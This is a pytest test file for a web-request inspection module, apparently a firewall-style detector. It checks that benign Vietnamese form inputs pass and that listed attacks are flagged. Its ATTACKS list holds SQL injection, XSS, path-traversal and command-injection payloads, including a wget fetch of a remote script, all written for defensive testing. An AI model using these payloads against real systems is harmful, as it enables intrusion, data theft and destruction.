from urllib.parse import quote

import pytest

from tinhso.soc.inspection import RULES, Inspector, decode

BENIGN_VI = [
    "Đăng ký khai sinh",
    "dang ky khai sinh",
    "Nguyễn Văn A",
    "Số 12/3, ngõ 45, đường Lê Lợi, phường Hồng Bàng",
    "Thôn 3, xã An Lão / huyện An Lão",
    "H31.05-250101-0001",
    "Lê Thị Hoa; Nguyễn Văn Bình",
    "Ông Nguyễn Văn Tý & bà Lê Thị Mai",
    'Tôi muốn hỏi: thủ tục "đăng ký thường trú" cần gì?',
    "Select giấy tờ từ danh sách",
    "100% vốn nhà nước",
    "Đơn đề nghị — bản chính + 02 bản sao",
]

ATTACKS = [
    ("' or '1'='1", "sqli"),
    ("1 UNION/**/SELECT username, password FROM core_user", "sqli"),
    ("1; DROP TABLE dossiers", "sqli"),
    ("1 and sleep(5)", "sqli"),
    ("<script>alert(1)</script>", "xss"),
    ('<svg/onload=alert("x")>', "xss"),
    ("JaVaScRiPt:alert(document.cookie)", "xss"),
    ("../../../etc/passwd", "path-traversal"),
    ("....//....//etc/shadow", "path-traversal"),
    ("1; cat /etc/hosts", "cmdi"),
    ("$(wget http://203.0.113.5/a.sh)", "cmdi"),
]


@pytest.mark.parametrize("value", BENIGN_VI)
def test_benign_vietnamese_input_does_not_trigger_at_paranoia_1(value):
    verdict = Inspector().inspect(
        url="/thu-tuc/?q=" + quote(value) + "&id=5&ma=" + quote(value), user_agent="Mozilla/5.0"
    )
    assert verdict.score == 0, verdict.rule_ids
    form = Inspector().inspect(
        url="/ho-so/nop/", values=[value], method="POST", user_agent="Mozilla/5.0"
    )
    assert not form.is_attack


@pytest.mark.parametrize(("value", "category"), ATTACKS)
def test_attacks_reach_the_threshold_with_the_right_category(value, category):
    verdict = Inspector().inspect(url="/thu-tuc/?q=" + quote(value), user_agent="Mozilla/5.0")
    assert verdict.is_attack
    assert category in verdict.categories


def test_repeated_percent_encoding_is_decoded():
    triple = quote(quote(quote("<script>")))
    assert decode(triple) == "<script>"
    assert Inspector().inspect(url=f"/x?a={triple}alert(1)").is_attack


def test_scanner_user_agent_and_protocol_anomalies():
    assert "scanner" in Inspector().inspect(url="/", user_agent="sqlmap/1.8#stable").categories
    assert Inspector().inspect(url="/x%00.php", user_agent="Mozilla/5.0").is_attack
    odd = Inspector().inspect(url="/", method="PROPFIND", user_agent="Mozilla/5.0")
    assert odd.rule_ids == [6002] and not odd.is_attack


def test_paranoia_level_adds_stricter_rules():
    value = "/x?note=" + quote("<b>in đậm</b>")
    assert Inspector(paranoia=1).inspect(url=value, user_agent="Mozilla/5.0").score == 0
    assert Inspector(paranoia=2).inspect(url=value, user_agent="Mozilla/5.0").score == 3
    assert Inspector(paranoia=2, threshold=3).inspect(url=value, user_agent="Mozilla/5.0").is_attack
    assert (
        not Inspector(paranoia=2).inspect(url="/", user_agent="").is_attack
    )  # missing UA is a notice


def test_rule_ids_are_unique_and_levels_valid():
    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids))
    assert all(1 <= r.paranoia <= 4 and r.score in (2, 3, 4, 5) for r in RULES)


def test_huge_input_is_bounded():
    verdict = Inspector().inspect(url="/x?q=" + "a" * 1_000_000 + "&" * 10_000)
    assert verdict.score == 0
